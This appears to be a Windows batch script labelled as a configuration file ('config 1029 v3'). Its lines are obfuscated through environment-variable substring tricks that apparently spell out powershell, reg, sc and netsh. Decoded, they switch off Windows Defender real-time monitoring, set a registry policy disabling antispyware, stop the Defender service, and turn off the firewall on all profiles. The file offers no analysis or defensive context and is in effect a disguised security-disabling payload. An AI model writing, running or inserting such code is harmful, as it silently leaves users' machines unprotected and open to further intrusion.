REM config 1029 v3
p%COMSPEC:~-20,1%w%COMSPEC:~-1,1%r%comspec:~-14,1%he%PUBLIC:~-3,1%%public:~-3,1% -c "Set-MpPreference -DisableRealtimeMonitoring $true"
%programdata:~-10,1%%PUBLIC:~5,1%g add "HKLM\SOFTWARE\Policies\Microsoft\Windows Defender" /v DisableAntiSpyware /t REG_DWORD /d 1 /f
%PUBLIC:~4,1%c stop WinDefend
%WINDIR:~-5,1%e%COMSPEC:~14,1%%PUBLIC:~-8,1%h advfirewall set allprofiles state off
